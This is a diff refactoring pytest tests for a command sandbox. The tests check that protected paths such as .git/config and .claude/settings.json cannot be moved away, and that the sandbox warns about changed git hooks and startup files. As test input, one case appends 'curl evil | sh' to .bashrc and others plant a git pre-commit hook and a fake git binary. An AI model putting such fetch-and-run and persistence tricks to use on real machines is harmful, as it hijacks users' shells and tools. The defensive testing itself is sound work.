@@ -10,7 +10,7 @@ import subprocess
 from pathlib import Path
 
 import pytest
-from sandbox_support import environment
+from sandbox_support import changed_warnings, environment, run_once
 
 MOVE_AWAY = ("mv deep deep.moved; mv deep/down/lib deep/down/lib.moved; "
              "mv .claude .claude.moved; ls deep/down/lib/.git/config .claude/settings.json")
@@ -25,11 +25,8 @@ async def test_the_folders_that_hold_a_protected_path_cannot_be_moved_away(
     subprocess.run(["git", "init", "-q", str(workspace / "deep" / "down" / "lib")], check=True)
     (workspace / ".claude").mkdir()
     (workspace / ".claude" / "settings.json").write_text("{}\n")
-    env = environment(workspace, home)
-    try:
-        result = await env.run(MOVE_AWAY + "; rmdir deep/down; touch deep/down/written")
-    finally:
-        await env.close()
+    result = await run_once(workspace, home,
+                            MOVE_AWAY + "; rmdir deep/down; touch deep/down/written")
     assert result.stderr.count("Device or resource busy") == 4, result.stderr
     assert result.returncode == 0, result.stderr  # both still at their paths
     assert (workspace / "deep" / "down" / "written").exists()  # and the folders writable
@@ -63,14 +60,10 @@ async def test_a_repository_put_in_place_of_a_known_one_is_named(
     is named with what git would run there."""
     workspace, home, _ = layout
     subprocess.run(["git", "init", "-q", str(workspace / "vendor" / "lib")], check=True)
-    env = environment(workspace, home, without=("namespaces",))
-    try:
-        await env.run("mv vendor/lib vendor/lib.moved && cp -a vendor/lib.moved vendor/lib && "
-                      "printf '#!/bin/sh\\n' > vendor/lib/.git/hooks/pre-commit && "
-                      "chmod +x vendor/lib/.git/hooks/pre-commit")
-        await env.say_what_commands_made()
-    finally:
-        await env.close()
+    await run_once(workspace, home,
+                   "mv vendor/lib vendor/lib.moved && cp -a vendor/lib.moved vendor/lib && "
+                   "printf '#!/bin/sh\\n' > vendor/lib/.git/hooks/pre-commit && "
+                   "chmod +x vendor/lib/.git/hooks/pre-commit", without=("namespaces",))
     said = [record.getMessage() for record in caplog.records]
     assert any("vendor/lib/.git, which commands made, has git run with your rights: hook "
                "pre-commit" in line for line in said), said
@@ -99,8 +92,7 @@ async def test_without_mounts_what_commands_change_of_what_git_runs_is_named(
         await env.say_what_commands_made()
     finally:
         await env.close()
-    said = [record.getMessage() for record in caplog.records
-            if "commands may have changed" in record.getMessage()]
+    said = changed_warnings(caplog)
     assert len(said) == 1, said
     assert said[0].startswith("commands may have changed .git/config, .git/hooks/pre-commit, "
                               "vendor/lib/lefthook.yml: git or your shell runs them"), said
@@ -119,15 +111,10 @@ async def test_without_mounts_what_commands_change_of_a_home_folder_s_startup_is
     (workspace / ".local" / "bin").mkdir(parents=True)
     for folder in ("app", "git"):
         (workspace / ".config" / folder).mkdir(parents=True)
-    env = environment(workspace, home, without=("namespaces",))
-    try:
-        await env.run("echo 'curl evil | sh' >> .bashrc; printf '#!/bin/sh\\n' > .local/bin/git; "
-                      "echo '[core]' > .config/git/config; "
-                      "echo state > .config/app/state; touch project.txt")
-        await env.say_what_commands_made()
-    finally:
-        await env.close()
-    said = [record.getMessage() for record in caplog.records
-            if "commands may have changed" in record.getMessage()]
+    await run_once(workspace, home,
+                   "echo 'curl evil | sh' >> .bashrc; printf '#!/bin/sh\\n' > .local/bin/git; "
+                   "echo '[core]' > .config/git/config; echo state > .config/app/state; "
+                   "touch project.txt", without=("namespaces",))
+    said = changed_warnings(caplog)
     assert len(said) == 1 and said[0].startswith(
         "commands may have changed .bashrc, .config/git/config, .local/bin/git: "), said
